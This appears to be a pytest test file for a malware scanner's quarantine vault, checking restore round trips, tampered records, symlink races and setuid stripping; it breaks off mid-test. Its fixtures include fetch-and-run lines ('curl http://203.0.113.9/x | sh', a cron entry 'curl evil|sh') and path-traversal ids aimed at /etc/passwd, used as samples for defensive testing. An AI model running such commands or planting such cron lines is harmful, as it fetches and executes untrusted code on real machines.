"""Tests of the quarantine vault: round trips, hostile paths, and kill -9 at every step."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import signal
import stat
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from conftest import EICAR, EICAR_RULE

from scanner import inert
from scanner.engine.compiler import RuleSource, compile_rules
from scanner.errors import QuarantineError, UsageError
from scanner.history import OutcomeRecord
from scanner.model import Action, FileIdentity, Policy, ScanType, Severity, SignatureSetInfo
from scanner.remediation import remediate, vault_journal
from scanner.remediation.quarantine import Vault
from scanner.remediation.vault_files import identify
from scanner.remediation.vault_journal import FAULT_STEPS
from scanner.remediation.vault_records import ItemKind, QuarantineItem, ScannedFile
from scanner.scanning.scan import ScanRequest, run_scan

REPO = Path(__file__).resolve().parents[1]
NOW = datetime(2025, 3, 4, 5, 6, 7, tzinfo=UTC)
# Bytes a rule would hit; the vault copy must not contain them.
PAYLOAD = b"#!/bin/sh\necho EVIL-MARKER-1234 && curl http://203.0.113.9/x | sh\n" * 50
IS_ROOT = os.geteuid() == 0


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def make_vault(tmp_path: Path, now: datetime = NOW) -> Vault:
    return Vault(tmp_path / "state" / "quarantine", now=lambda: now)


def write(path: Path, data: bytes = PAYLOAD, mode: int = 0o750) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    path.chmod(mode)
    os.utime(path, ns=(1_600_000_000_123_456_789, 1_500_000_000_987_654_321))
    return path


def assert_clean(vault: Vault) -> None:
    """No journal, no temporary file, and every content file has its record and vice versa."""
    assert list(vault.journal_dir.iterdir()) == []
    assert list(vault.tmp_dir.iterdir()) == []
    items = vault.list()
    expected = {f"{i.id}.json" for i in items} | {f"{i.id}.inert" for i in items if i.restorable}
    assert {p.name for p in vault.items_dir.iterdir()} == expected
    assert vault.damaged() == []


def assert_no_restore_temps(folder: Path) -> None:
    if folder.is_dir():
        assert [p for p in folder.iterdir() if p.name.startswith(".scanner-restore-")] == []


# -- the ordinary life of an item ----------------------------------------------------------


def test_quarantine_then_restore_round_trip(tmp_path: Path) -> None:
    vault = make_vault(tmp_path)
    target = write(tmp_path / "home" / "bin" / "dropper.sh")
    ident = identify(str(target))

    item = vault.quarantine(str(target), ident, "Linux_Dropper", "Dropper", "scan-1")

    assert not target.exists()
    assert item.kind is ItemKind.QUARANTINE
    assert (item.sha256, item.size, item.mode) == (ident.sha256, len(PAYLOAD), 0o750)
    assert item.quarantined_at == NOW and item.id.startswith("20250304T050607Z-")
    stored = (vault.items_dir / f"{item.id}.inert").read_bytes()
    assert stored != PAYLOAD and b"EVIL-MARKER-1234" not in stored and inert.decode(stored) == PAYLOAD
    assert vault.list() == [item] and vault.get(item.id) == item
    assert_clean(vault)

    assert vault.restore(item.id) == str(target)

    st = target.stat()  # before reading it, which would move the access time
    assert stat.S_IMODE(st.st_mode) == 0o750
    assert (st.st_atime_ns, st.st_mtime_ns) == (item.atime_ns, 1_500_000_000_987_654_321)
    assert target.read_bytes() == PAYLOAD
    assert vault.list() == []
    assert_clean(vault)
    assert_no_restore_temps(target.parent)


def test_record_json_has_the_listed_fields_and_round_trips(tmp_path: Path) -> None:
    vault = make_vault(tmp_path)
    target = write(tmp_path / "x.bin")
    item = vault.quarantine(str(target), identify(str(target)), "R", "Fam", "scan-9")

    on_disk = json.loads((vault.items_dir / f"{item.id}.json").read_text())
    assert on_disk == item.to_json()
    for key in ("id", "original_path", "original_path_b64", "sha256", "family", "rule", "quarantined_at"):
        assert key in on_disk
    assert on_disk["quarantined_at"] == "2025-03-04T05:06:07Z"
    assert (on_disk["rule"], on_disk["family"], on_disk["scan_id"]) == ("R", "Fam", "scan-9")
    assert QuarantineItem.from_json(on_disk) == item


def test_undecodable_path_is_kept_losslessly(tmp_path: Path) -> None:
    vault = make_vault(tmp_path)
    raw = os.fsencode(tmp_path) + b"/caf\xe9-\xff\x80.bin"
    path = os.fsdecode(raw)
    with open(path, "wb") as f:
        f.write(PAYLOAD)

    item = vault.quarantine(path, identify(path), "R", "F", "s")

    record = item.to_json()
    json.dumps(record).encode("utf-8")  # printable, no lone surrogates
    assert base64.b64decode(str(record["original_path_b64"])) == raw
    assert str(record["original_path"]).endswith("caf\\xe9-\\xff\\x80.bin")
    assert vault.get(item.id).original_path == path
    vault.restore(item.id)
    with open(raw, "rb") as f:
        assert f.read() == PAYLOAD


@pytest.mark.parametrize("umask", [0o000, 0o277])
def test_vault_is_private_whatever_the_umask(tmp_path: Path, umask: int) -> None:
    old = os.umask(umask)
    try:
        vault = make_vault(tmp_path)
        target = write(tmp_path / "a.bin")
        vault.quarantine(str(target), identify(str(target)), "R", "F", "s")
        vault.backup(str(write(tmp_path / "crontab", b"* * * * * true\n", 0o644)), "s", "cron line")
    finally:
        os.umask(old)
    for dirpath, _dirnames, filenames in os.walk(vault.root):
        assert stat.S_IMODE(os.stat(dirpath).st_mode) == 0o700, dirpath
        for name in filenames:
            assert stat.S_IMODE(os.stat(os.path.join(dirpath, name)).st_mode) == 0o600, name


@pytest.mark.skipif(not IS_ROOT, reason="changing owners needs root")
def test_restore_puts_back_owner_and_recreates_parents_like_the_original(tmp_path: Path) -> None:
    vault = make_vault(tmp_path)
    folder = tmp_path / "home" / "alice" / ".config" / "autostart"
    target = write(folder / "evil.desktop", mode=0o4751)
    os.chown(target, 1234, 5678)
    os.chmod(target, 0o4751)  # chown cleared the set-uid bit
    folder.chmod(0o751)
    os.chown(folder, 1234, 5678)
    item = vault.quarantine(str(target), identify(str(target)), "R", "F", "s")
    (tmp_path / "home" / "alice" / ".config" / "autostart").rmdir()
    (tmp_path / "home" / "alice" / ".config").rmdir()

    vault.restore(item.id)

    st = target.stat()
    # The record keeps the set-uid bit; restore never sets it, and says so.
    assert item.mode == 0o4751 and item.restore_mode == 0o751
    assert item.restore_note is not None and "restored as 0751" in item.restore_note
    assert (st.st_uid, st.st_gid, stat.S_IMODE(st.st_mode)) == (1234, 5678, 0o751)
    for made in (folder, folder.parent):
        pst = made.stat()
        assert (pst.st_uid, pst.st_gid, stat.S_IMODE(pst.st_mode)) == (1234, 5678, 0o751)


def test_restore_refuses_to_overwrite_and_restores_elsewhere(tmp_path: Path) -> None:
    vault = make_vault(tmp_path)
    target = write(tmp_path / "a.bin")
    item = vault.quarantine(str(target), identify(str(target)), "R", "F", "s")
    write(target, b"a new, innocent file")

    with pytest.raises(QuarantineError, match=r"already exists.*--to PATH"):
        vault.restore(item.id)
    assert target.read_bytes() == b"a new, innocent file"
    assert vault.get(item.id) == item
    assert_no_restore_temps(target.parent)

    elsewhere = tmp_path / "restored"
    elsewhere.mkdir()
    assert vault.restore(item.id, to=str(elsewhere)) == str(elsewhere / "a.bin")
    assert (elsewhere / "a.bin").read_bytes() == PAYLOAD
    assert_clean(vault)


def test_restore_refuses_a_dangling_symlink_at_the_target(tmp_path: Path) -> None:
    vault = make_vault(tmp_path)
    target = write(tmp_path / "a.bin")
    item = vault.quarantine(str(target), identify(str(target)), "R", "F", "s")
    target.symlink_to(tmp_path / "would-be-created")

    with pytest.raises(QuarantineError, match="already exists"):
        vault.restore(item.id)
    assert not (tmp_path / "would-be-created").exists()


def test_restore_verifies_the_hash_of_the_vault_copy(tmp_path: Path) -> None:
    vault = make_vault(tmp_path)
    target = write(tmp_path / "a.bin")
    item = vault.quarantine(str(target), identify(str(target)), "R", "F", "s")
    content = vault.items_dir / f"{item.id}.inert"
    blob = bytearray(content.read_bytes())
    blob[-1] ^= 0xFF
    content.write_bytes(bytes(blob))

    with pytest.raises(QuarantineError, match="damaged"):
        vault.restore(item.id)
    assert not target.exists()
    assert vault.get(item.id) == item
    assert_no_restore_temps(target.parent)
    assert list(vault.journal_dir.iterdir()) == []


def test_backup_keeps_the_original_and_restores_over_it_only_when_asked(tmp_path: Path) -> None:
    vault = make_vault(tmp_path)
    cron = write(tmp_path / "spool" / "root", b"0 * * * * backup\n* * * * * curl evil|sh\n", 0o600)
    item = vault.backup(str(cron), "scan-2", "removed a persistence line")
    assert cron.read_bytes().endswith(b"curl evil|sh\n")
    assert item.kind is ItemKind.BACKUP and item.rule is None and item.reason == "removed a persistence line"
    stored = (vault.items_dir / f"{item.id}.inert").read_bytes()
    assert b"curl evil" not in stored
    cron.write_bytes(b"0 * * * * backup\n")  # what persistence cleaning leaves

    with pytest.raises(QuarantineError, match="already exists"):
        vault.restore(item.id)
    assert cron.read_bytes() == b"0 * * * * backup\n"

    vault.restore(item.id, overwrite=True)
    assert cron.read_bytes() == b"0 * * * * backup\n* * * * * curl evil|sh\n"
    assert stat.S_IMODE(cron.stat().st_mode) == 0o600
    assert_clean(vault)
    assert_no_restore_temps(cron.parent)


def test_backup_refuses_a_symlink(tmp_path: Path) -> None:
    vault = make_vault(tmp_path)
    real = write(tmp_path / "dotfiles" / "bashrc", b"alias ls='ls'\n")
    link = tmp_path / ".bashrc"
    link.symlink_to(real)
    with pytest.raises(QuarantineError, match="symbolic link"):
        vault.backup(str(link), "s", "r")
    assert vault.list() == []


def test_remove_action_deletes_and_keeps_only_a_record(tmp_path: Path) -> None:
    vault = make_vault(tmp_path)
    target = write(tmp_path / "a.bin")
    ident = identify(str(target))

    item = vault.quarantine(str(target), ident, "R", "F", "s", keep=False)

    assert not target.exists()
    assert item.kind is ItemKind.REMOVED and not item.restorable and item.sha256 == ident.sha256
    assert vault.list() == [item]
    assert [p.name for p in vault.items_dir.iterdir()] == [f"{item.id}.json"]
    with pytest.raises(QuarantineError, match="content was not kept"):
        vault.restore(item.id)
    assert_clean(vault)


def test_delete_and_purge(tmp_path: Path) -> None:
    old = make_vault(tmp_path, NOW - timedelta(days=100))
    new = make_vault(tmp_path, NOW - timedelta(days=10))
    a = old.quarantine(str(write(tmp_path / "a")), None, "R", "F", "s")
    b = new.quarantine(str(write(tmp_path / "b")), None, "R", "F", "s")
    c = new.quarantine(str(write(tmp_path / "c")), None, "R", "F", "s")

    new.delete(c.id)
    assert [i.id for i in new.list()] == [a.id, b.id]
    with pytest.raises(QuarantineError, match="no quarantine item"):
        new.get(c.id)

    assert new.purge(90, now=NOW) == [a.id]
    assert [i.id for i in new.list()] == [b.id]
    assert new.purge(11, now=NOW) == []
    assert new.purge(9, now=NOW) == [b.id]
    assert_clean(new)
    with pytest.raises(UsageError):
        new.purge(-1)


@pytest.mark.parametrize("bad", ["../../etc/passwd", "..", "", "a/b", ".hidden"])
def test_ids_cannot_escape_the_vault(tmp_path: Path, bad: str) -> None:
    vault = make_vault(tmp_path)
    for call in (vault.get, vault.restore, vault.delete):
        with pytest.raises(QuarantineError, match="not a quarantine item id"):
            call(bad)


def test_damaged_record_is_reported_not_listed(tmp_path: Path) -> None:
    vault = make_vault(tmp_path)
    item = vault.quarantine(str(write(tmp_path / "a")), None, "R", "F", "s")
    (vault.items_dir / f"{item.id}.json").write_text("{not json")
    assert vault.list() == []
    assert vault.damaged() == [vault.items_dir / f"{item.id}.json"]
    with pytest.raises(QuarantineError, match="damaged"):
        vault.get(item.id)


# -- tampered records ----------------------------------------------------------------------


def tampered_item(tmp_path: Path, change: dict[str, object]) -> tuple[Vault, QuarantineItem, Path]:
    """A real item whose record on disk then has ``change`` applied (a value of None deletes the key)."""
    vault = make_vault(tmp_path)
    target = write(tmp_path / "home" / "evil.sh")
    item = vault.quarantine(str(target), identify(str(target)), "R", "F", "scan-1")
    record = vault.items_dir / f"{item.id}.json"
    data = json.loads(record.read_text())
    for key, value in change.items():
        if value is None:
            del data[key]
        else:
            data[key] = value
    record.write_text(json.dumps(data))
    return vault, item, target


def b64(path: str) -> str:
    return base64.b64encode(os.fsencode(path)).decode()


def assert_refused_as_damaged(vault: Vault, item: QuarantineItem, reason: str) -> None:
    record = vault.items_dir / f"{item.id}.json"
    assert vault.list() == [] and vault.damaged() == [record]
    for call in (vault.get, vault.restore):
        with pytest.raises(QuarantineError, match=f"is damaged \\(.*{reason}") as caught:
            call(item.id)
        assert "\n" not in str(caught.value)
    assert record.exists() and (vault.items_dir / f"{item.id}.inert").exists()  # left for a person
    assert list(vault.journal_dir.iterdir()) == []


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        ({"original_path_b64": b64("scanner-test-relative/evil.sh")}, "not an absolute path"),
        ({"original_path_b64": b64("/tmp/../scanner-test-dotdot/evil.sh")}, "not a normalised path"),
        ({"original_path_b64": b64("/tmp/./scanner-test-dot/evil.sh")}, "not a normalised path"),
        ({"original_path_b64": b64("//tmp/scanner-test-slash")}, "not a normalised path"),
        ({"original_path_b64": b64("/tmp/scanner-test-dir/")}, "not a normalised path"),
        ({"original_path_b64": b64("/")}, "not a normalised path"),
        ({"original_path_b64": b64("/tmp/scanner-test\0nul")}, "NUL"),
        ({"original_path_b64": b64("/tmp/" + "x" * 256)}, "longer than 255 bytes"),
        ({"original_path_b64": b64("/x" * 40000)}, "longer than 65536 bytes"),
        ({"original_path_b64": "not base64!"}, "base64"),
        ({"mode": 0o100755}, "mode is out of range"),
        ({"mode": -1}, "mode is out of range"),
        ({"parent_mode": 0o40755}, "parent_mode is out of range"),
        ({"size": 10**30}, "size is out of range"),
        ({"uid": 2**32 - 1}, "uid is out of range"),
        ({"gid": -5}, "gid is out of range"),
        ({"mtime_ns": 10**30}, "mtime_ns is out of range"),
        ({"atime_ns": -(10**30)}, "atime_ns is out of range"),
        ({"dev": 2**64}, "dev is out of range"),
        ({"uid": "0"}, "uid is not an integer"),
        ({"size": 1.5}, "size is not an integer"),
        ({"mode": True}, "mode is not an integer"),
        ({"original_path_b64": 123}, "original_path_b64 is not a string"),
        ({"kind": "bogus"}, "bogus"),
        ({"sha256": "XYZ"}, "sha256 is not 64"),
        ({"scan_id": "../../x"}, "scan_id"),
        ({"reason": "r" * 70000}, "reason is longer"),
        ({"user": "u" * 300}, "user is longer"),
        ({"quarantined_at": "yesterday"}, "isoformat"),
        ({"format": True}, "unsupported record format"),
        ({"uid": None}, "uid"),
    ],
)
def test_tampered_record_is_damaged_and_restore_refuses_it(
    tmp_path: Path, change: dict[str, object], reason: str
) -> None:
    vault, item, target = tampered_item(tmp_path, change)
    assert_refused_as_damaged(vault, item, reason)
    assert not target.exists()
    for where in ("scanner-test-relative", "scanner-test-dotdot", "scanner-test-dot", "scanner-test-slash"):
        assert not Path("/tmp", where).exists() and not Path(where).exists() and not Path("/", where).exists()


def test_record_id_must_be_of_the_form_the_vault_writes(tmp_path: Path) -> None:
    vault, item, _ = tampered_item(tmp_path, {})
    record = vault.items_dir / f"{item.id}.json"
    odd = vault.items_dir / "my-item.json"
    data = json.loads(record.read_text())
    data["id"] = "my-item"
    odd.write_text(json.dumps(data))
    assert vault.list() == [item] and vault.damaged() == [odd]
    with pytest.raises(QuarantineError, match="is not of the form"):
        vault.get("my-item")


@pytest.mark.parametrize(
    "content",
    [b"[1, 2]", b'"a string"', b"null", b"{not json", b"\xff\xfe garbage", b"[" * 100_000, b""],
    ids=["list", "string", "null", "invalid", "binary", "deep", "empty"],
)
def test_record_that_is_not_a_json_object_is_damaged(tmp_path: Path, content: bytes) -> None:
    vault, item, _ = tampered_item(tmp_path, {})
    (vault.items_dir / f"{item.id}.json").write_bytes(content)
    assert_refused_as_damaged(vault, item, "")


def test_truncated_record_is_damaged(tmp_path: Path) -> None:
    vault, item, _ = tampered_item(tmp_path, {})
    record = vault.items_dir / f"{item.id}.json"
    record.write_bytes(record.read_bytes()[: record.stat().st_size // 2])
    assert_refused_as_damaged(vault, item, "")


def test_oversized_record_is_damaged_without_reading_it_all(tmp_path: Path) -> None:
    vault, item, _ = tampered_item(tmp_path, {})
    record = vault.items_dir / f"{item.id}.json"
    with open(record, "r+b") as f:
        f.truncate(1 << 30)  # sparse: no disk used
    assert_refused_as_damaged(vault, item, "more than a record can hold")


def test_setuid_mode_in_a_record_is_restored_without_the_special_bits(tmp_path: Path) -> None:
    vault, item, target = tampered_item(tmp_path, {"mode": 0o6777})
    tampered = vault.get(item.id)
    assert tampered.mode == 0o6777 and tampered.restore_mode == 0o777
    assert tampered.restore_note is not None and "recorded with mode 6777" in tampered.restore_note
    assert vault.restore(item.id) == str(target)
    assert stat.S_IMODE(target.stat().st_mode) == 0o777  # no setuid, setgid or sticky bit
    assert target.read_bytes() == PAYLOAD


@pytest.mark.skipif(not IS_ROOT, reason="making device nodes needs root")
@pytest.mark.parametrize("kind", ["fifo", "zero-device", "directory", "symlink"])
@pytest.mark.parametrize("which", ["record", "content", "journal"])
def test_special_file_in_the_vault_neither_hangs_nor_exhausts_memory(tmp_path: Path, kind: str, which: str) -> None:
    vault, item, target = tampered_item(tmp_path, {})
    if which == "journal":
        place = vault.journal_dir / "0123456789abcdef.json"
    else:
        place = vault.items_dir / (f"{item.id}.json" if which == "record" else f"{item.id}.inert")
        place.unlink()
    if kind == "fifo":
        os.mkfifo(place)
    elif kind == "zero-device":
        os.mknod(place, stat.S_IFCHR | 0o600, os.makedev(1, 5))  # what /dev/zero is
    elif kind == "directory":
        place.mkdir()
    else:
        place.symlink_to("/dev/zero")
    # In a child with a memory and file-size limit and a timeout: reading a record without a
    # bound would hang on the FIFO or fill memory (and decoding the content, the disk) from the device.
    code = f"""
import resource, sys
resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))
resource.setrlimit(resource.RLIMIT_FSIZE, (64 << 20, 64 << 20))
from pathlib import Path
from scanner.errors import QuarantineError
from scanner.remediation.quarantine import Vault
vault = Vault(Path({str(vault.root)!r}))
print("recover:", vault.recover())
print("damaged:", [p.name for p in vault.damaged()])
try:
    vault.restore({item.id!r})
    print("restored")
except QuarantineError as exc:
    print("refused:", exc)
"""
    proc = subprocess.run(
        [sys.executable, "-c", code], cwd=REPO, env={**os.environ, "PYTHONPATH": str(REPO)},
        capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    lines = proc.stdout.splitlines()
    if which == "journal":
        assert "unusable" in lines[0] and (vault.journal_dir / "0123456789abcdef.damaged").exists()
        assert lines[2] == "restored" and target.read_bytes() == PAYLOAD
        return
    assert lines[0] == "recover: []"
    assert lines[1] == ("damaged: []" if which == "content" else f"damaged: ['{item.id}.json']")
    assert lines[2].startswith("refused:") and "damaged" in lines[2]
    assert not target.exists()
    assert_no_restore_temps(target.parent)


def test_cli_restore_of_a_tampered_record_is_a_one_line_error(tmp_path: Path, scanner_home: Path, cli) -> None:  # type: ignore[no-untyped-def]
    vault = Vault(scanner_home / "quarantine")
    target = write(tmp_path / "home" / "evil.sh")
    item = vault.quarantine(str(target), identify(str(target)), "R", "F", "scan-1")
    record = vault.items_dir / f"{item.id}.json"
    data = json.loads(record.read_text())
    data["original_path_b64"] = b64("scanner-test-relative/evil.sh")
    record.write_text(json.dumps(data))

    res = cli("quarantine", "restore", item.id)
    assert res.exit_code == 2 and "Traceback" not in res.stderr
    error = [line for line in res.stderr.splitlines() if "error" in line]
    assert len(error) == 1 and "is damaged (original_path is not an absolute path)" in error[0]
    assert "damaged record" in res.stderr  # the vault's listing of damaged records says it too
    assert not Path("scanner-test-relative").exists() and not Path("/scanner-test-relative").exists()
    assert cli("quarantine", "list").stdout.strip() == "The quarantine is empty."


def test_cli_restore_of_a_setuid_record_warns_that_the_bits_are_left_out(
    tmp_path: Path,
    scanner_home: Path,
    cli,  # type: ignore[no-untyped-def]
) -> None:
    vault = Vault(scanner_home / "quarantine")
    target = write(tmp_path / "home" / "evil.sh", mode=0o4755)
    item = vault.quarantine(str(target), identify(str(target)), "R", "F", "scan-1")
    assert item.mode == 0o4755

    res = cli("quarantine", "restore", item.id)
    assert res.exit_code == 0, res.stderr
    assert "restore never sets setuid, setgid or sticky bits" in res.stderr
    assert stat.S_IMODE(target.stat().st_mode) == 0o755


def test_undo_notes_dropped_set_id_bits_and_reports_a_damaged_record_as_a_problem(tmp_path: Path) -> None:
    vault = make_vault(tmp_path)
    setuid = write(tmp_path / "a" / "setuid.sh", mode=0o4750)
    tampered = write(tmp_path / "a" / "other.sh")
    items = [vault.quarantine(str(p), identify(str(p)), "R", "F", "s") for p in (setuid, tampered)]
    record = vault.items_dir / f"{items[1].id}.json"
    record.write_text(record.read_text().replace('"mode": 488', '"mode": 99999'))
    history = {"outcomes": [{"step": "quarantine", "ok": True, "vault_id": i.id, "target": i.original_path}
                            for i in items]}  # fmt: skip

    result = remediate.undo([OutcomeRecord.from_json(o) for o in history["outcomes"]], vault, Path("/"), "s")

    assert result.restored == (f"restored {setuid}",) and stat.S_IMODE(setuid.stat().st_mode) == 0o750
    assert any("restore never sets setuid" in n for n in result.notes)
    (problem,) = result.problems
    assert "mode is out of range" in problem and not tampered.exists()


def test_journal_entry_naming_a_relative_path_is_set_aside(tmp_path: Path) -> None:
    vault = make_vault(tmp_path)
    vault.recover()
    vault.journal_dir.mkdir(parents=True)
    entry = vault.journal_dir / "00112233445566aa.json"
    entry.write_text(json.dumps({"format": 1, "op": "quarantine", "item": "20250304T050607Z-0011aabb",
                                 "path_b64": b64("etc/passwd")}))  # fmt: skip
    (done,) = vault.recover()
    assert "not an absolute path" in done and entry.with_suffix(".damaged").exists()


def test_restore_does_not_follow_a_folder_that_became_a_symlink(tmp_path: Path) -> None:
    vault = make_vault(tmp_path)
    target = write(tmp_path / "dl" / "evil.sh")
    item = vault.quarantine(str(target), identify(str(target)), "R", "F", "s")
    (tmp_path / "dl").rmdir()
    (tmp_path / "etc").mkdir()
    (tmp_path / "dl").symlink_to(tmp_path / "etc")
    with pytest.raises(QuarantineError, match=r"a folder on the way is a symbolic link.*restore elsewhere with --to"):
        vault.restore(item.id)
    assert list((tmp_path / "etc").iterdir()) == [] and vault.get(item.id) == item
    assert list(vault.journal_dir.iterdir()) == []
    assert vault.restore(item.id, to=str(tmp_path / "etc")) == str(tmp_path / "etc" / "evil.sh")


def test_restore_to_a_folder_the_user_names_through_a_symlink(tmp_path: Path) -> None:
    # --to is the user's own choice: its folder is resolved once, then reached without links.
    vault = make_vault(tmp_path)
    target = write(tmp_path / "evil.sh")
    item = vault.quarantine(str(target), identify(str(target)), "R", "F", "s")
    (tmp_path / "real").mkdir()
    (tmp_path / "via").symlink_to("real")
    assert vault.restore(item.id, to=str(tmp_path / "via")) == str(tmp_path / "real" / "evil.sh")
    assert (tmp_path / "real" / "evil.sh").read_bytes() == PAYLOAD


# -- the file acted on is the file scanned -------------------------------------------------


def assert_untouched(vault: Vault) -> None:
    assert vault.list() == []
    assert list(vault.items_dir.iterdir()) == []
    assert_clean(vault)


def test_symlink_swapped_in_after_the_scan_is_not_followed(tmp_path: Path) -> None:
    vault = make_vault(tmp_path)
    target = write(tmp_path / "dl" / "payload.bin")
    victim = write(tmp_path / "etc" / "important.conf", PAYLOAD)  # same bytes, to tempt a hash check
    ident = identify(str(target))
    target.unlink()
    target.symlink_to(victim)

    with pytest.raises(QuarantineError, match="symbolic link"):
        vault.quarantine(str(target), ident, "R", "F", "s")

    assert victim.read_bytes() == PAYLOAD and target.is_symlink()
    assert_untouched(vault)


def test_symlink_is_refused_even_without_a_scanned_identity(tmp_path: Path) -> None:
    vault = make_vault(tmp_path)
    victim = write(tmp_path / "important.conf")
    link = tmp_path / "link"
    link.symlink_to(victim)
    with pytest.raises(QuarantineError, match="symbolic link"):
        vault.quarantine(str(link), None, "R", "F", "s")
    assert victim.exists() and link.is_symlink()


def test_file_replaced_by_another_with_the_same_bytes_is_refused(tmp_path: Path) -> None:
    vault = make_vault(tmp_path)
    target = write(tmp_path / "a.bin")
    ident = identify(str(target))
    target.rename(tmp_path / "a.bin.orig")
    write(target)  # same content, new inode

    with pytest.raises(QuarantineError, match="device/inode changed"):
        vault.quarantine(str(target), ident, "R", "F", "s")
    assert target.read_bytes() == PAYLOAD
    assert_untouched(vault)


def test_content_changed_in_place_since_the_scan_is_refused(tmp_path: Path) -> None:
    vault = make_vault(tmp_path)
    target = write(tmp_path / "a.bin")
    ident = identify(str(target))
    with open(target, "r+b") as f:  # same inode, same size, other bytes
        f.write(b"X")

    with pytest.raises(QuarantineError, match="no longer has the content that was scanned"):
        vault.quarantine(str(target), ident, "R", "F", "s")
    assert target.read_bytes() == b"X" + PAYLOAD[1:]
    assert_untouched(vault)


@pytest.mark.skipif(not IS_ROOT, reason="needs a symlink owned by another user")
def test_parent_folder_swapped_for_an_untrusted_symlink_is_not_followed(tmp_path: Path) -> None:
    vault = make_vault(tmp_path)
    target = write(tmp_path / "dl" / "payload.bin")
    elsewhere = write(tmp_path / "etc" / "payload.bin")
    ident = identify(str(target))
    (tmp_path / "dl").rename(tmp_path / "dl.old")
    (tmp_path / "dl").symlink_to(tmp_path / "etc")
    os.lchown(tmp_path / "dl", 65534, 65534)

    with pytest.raises(QuarantineError, match="folder dl is a symbolic link"):
        vault.quarantine(str(target), ident, "R", "F", "s")
    with pytest.raises(QuarantineError, match="folder dl is a symbolic link"):
        vault.quarantine(str(target), None, "R", "F", "s")
    assert elsewhere.read_bytes() == PAYLOAD
    assert_untouched(vault)


@pytest.mark.parametrize("same_inode", [False, True])
def test_parent_folder_swapped_for_a_symlink_we_own_is_not_followed(tmp_path: Path, same_inode: bool) -> None:
    # Owned by root when the tests run as root: no owner is trusted. With same_inode, the name
    # outside is a hard link to the scanned file, so only the refusal of the link protects it.
    vault = make_vault(tmp_path)
    target = write(tmp_path / "dl" / "payload.bin")
    ident = identify(str(target))
    elsewhere = tmp_path / "etc" / "payload.bin"
    if same_inode:
        elsewhere.parent.mkdir()
        os.link(target, elsewhere)
    else:
        write(elsewhere)
    (tmp_path / "dl").rename(tmp_path / "dl.old")
    (tmp_path / "dl").symlink_to(tmp_path / "etc")

    for expected in (ident, None):
        with pytest.raises(QuarantineError, match=r"folder dl is a symbolic link .*whoever owns them; nothing was"):
            vault.quarantine(str(target), expected, "R", "F", "s")
    assert elsewhere.read_bytes() == PAYLOAD and (tmp_path / "dl.old" / "payload.bin").read_bytes() == PAYLOAD
    assert_untouched(vault)


def test_a_path_through_a_symlinked_folder_is_refused_and_its_real_path_is_not(tmp_path: Path) -> None:
    # Like /bin -> usr/bin on merged-/usr systems: the scan reports real paths, so the vault never
    # needs to follow a link; one on the way means the path is not what was scanned.
    vault = make_vault(tmp_path)
    target = write(tmp_path / "usr" / "bin" / "evil")
    (tmp_path / "bin").symlink_to("usr/bin")
    via_link = str(tmp_path / "bin" / "evil")
    with pytest.raises(QuarantineError, match="folder bin is a symbolic link"):
        identify(via_link)
    with pytest.raises(QuarantineError, match="folder bin is a symbolic link"):
        vault.quarantine(via_link, None, "R", "F", "s")
    assert target.read_bytes() == PAYLOAD
    item = vault.quarantine(str(target), identify(str(target)), "R", "F", "s")
    assert not target.exists()
    vault.restore(item.id)
    assert target.read_bytes() == PAYLOAD


def test_a_path_with_dot_dot_is_refused(tmp_path: Path) -> None:
    vault = make_vault(tmp_path)
    target = write(tmp_path / "a" / "evil")
    (tmp_path / "b").mkdir()
    with pytest.raises(QuarantineError, match=r"'\.\.' component"):
        vault.quarantine(str(tmp_path / "b" / ".." / "a" / "evil"), None, "R", "F", "s")
    assert target.read_bytes() == PAYLOAD
    assert_untouched(vault)


def test_a_path_outside_the_scanned_root_is_refused(tmp_path: Path) -> None:
    vault = make_vault(tmp_path)
    target = write(tmp_path / "other" / "evil")
    for root in (tmp_path / "root", tmp_path / "oth"):
        with pytest.raises(QuarantineError, match="is not under the scanned root"):
            vault.quarantine(str(target), identify(str(target)), "R", "F", "s", within=str(root))
    assert target.read_bytes() == PAYLOAD
    assert not vault.root.exists()  # refused before the vault is touched
    item = vault.quarantine(str(target), identify(str(target)), "R", "F", "s", within=str(tmp_path / "other"))
    assert item.original_path == str(target) and not target.exists()


@pytest.mark.skipif(not IS_ROOT, reason="needs a symlink owned by root")
def test_root_owned_symlink_swapped_in_between_scan_and_quarantine_is_refused(tmp_path: Path) -> None:
    # A real scan, then a folder of the scanned tree is moved out of it and a root-owned symlink
    # to an outside folder holding a hard link to the detected file takes its place.
    scanned = tmp_path / "scanned"
    evil = scanned / "dl" / "eicar.com"
    write(evil, EICAR, mode=0o644)
    rules_file = tmp_path / "eicar.yar"
    rules_file.write_text(EICAR_RULE)
    rules = compile_rules([RuleSource("r", rules_file)])
    request = ScanRequest(ScanType.CUSTOM, paths=(os.fspath(scanned),), jobs=1)
    report = run_scan(request, rules, SignatureSetInfo("test", 1, "custom"), now=lambda: NOW)
    (detection,) = report.detections
    assert (detection.path, detection.root) == (str(evil), str(scanned))

    outside = tmp_path / "outside"
    outside.mkdir()
    os.link(evil, outside / "eicar.com")  # same inode and content: only the link check stands in the way
    (scanned / "dl").rename(tmp_path / "moved-away")
    (scanned / "dl").symlink_to(outside)
    os.lchown(scanned / "dl", 0, 0)

    vault = make_vault(tmp_path)
    done, (outcome,) = remediate.remediate(
        report, Policy(Action.QUARANTINE, min_severity=Severity.LOW), vault, dry_run=False, families={}, now=lambda: NOW
    )
    assert not outcome.ok and done.exit_code == 3
    assert "folder dl is a symbolic link" in outcome.message and "nothing was changed" in outcome.message
    assert (outside / "eicar.com").read_bytes() == EICAR  # the name outside the scanned root is untouched
    assert (tmp_path / "moved-away" / "eicar.com").read_bytes() == EICAR  # the original stays
    assert not vault.items_dir.exists() or vault.list() == []


def test_name_swapped_between_copy_and_unlink_is_left_alone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    vault = make_vault(tmp_path)
    target = write(tmp_path / "a.bin")
    ident = identify(str(target))

    def swap(step: str) -> None:
        if step == "quarantine:recorded":  # the copy is made and recorded; the unlink is next
            target.rename(tmp_path / "a.bin.orig")
            write(target, b"someone else's file")

    monkeypatch.setattr(vault_journal, "fault", swap)
    with pytest.raises(QuarantineError, match="was replaced while it was being quarantined"):
